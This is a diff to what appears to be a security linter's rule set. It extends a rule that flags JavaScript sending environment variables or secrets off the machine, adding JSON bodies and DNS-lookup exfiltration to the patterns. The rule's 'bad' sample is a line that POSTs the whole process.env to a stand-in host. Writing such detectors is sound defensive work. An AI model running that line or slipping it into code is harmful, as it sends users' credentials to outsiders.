@@ -63,7 +63,16 @@ export const ABUSE: readonly Rule[] = [
     message: '{} sends the environment or a sensitive file away',
     why: 'Credentials leave the machine.',
     remedy: 'Remove it.',
-    match: { call: JS_SENDS, when: [{ arg: ['body', 'data', 1, 0], is: 'secret' }] },
+    match: [
+      { call: JS_SENDS, when: [{ arg: ['body', 'data', 'json', 1, 0], is: 'secret' }] },
+      {
+        call: ['dns.{lookup,resolve,resolve4,resolveTxt}', 'dns.promises.{lookup,resolve}'],
+        when: [
+          { arg: 0, is: 'external' },
+          { arg: 0, is: 'built' },
+        ],
+      },
+    ],
     bad: "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
     good: "fetch('http://x.example', { method: 'POST', body: 'a' });",
   },
